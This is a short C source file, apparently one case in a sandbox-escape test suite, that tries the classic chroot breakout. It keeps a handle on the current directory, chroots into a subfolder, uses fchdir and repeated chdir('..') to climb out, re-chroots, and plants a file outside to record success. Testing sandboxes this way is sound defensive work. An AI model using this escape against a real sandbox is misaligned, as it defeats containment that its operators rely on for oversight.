/* The classic way out of a chroot: into a folder below with an open handle above it, up from the handle, and back. */
#include "../escape.h"

int main(void) {
  int above = open(".", O_RDONLY | O_DIRECTORY);
  mkdir("below", 0755);
  if (chroot("below") != 0 && (unshare(CLONE_NEWUSER) != 0 || chroot("below") != 0)) return judge();
  if (fchdir(above) != 0) return judge();
  for (int i = 0; i < 64; ++i) (void)!chdir("..");
  if (chroot(".") == 0 && plants(AT_FDCWD, join(given("OUTSIDE"), "/planted"))) escaped("chroot");
  return judge();
}
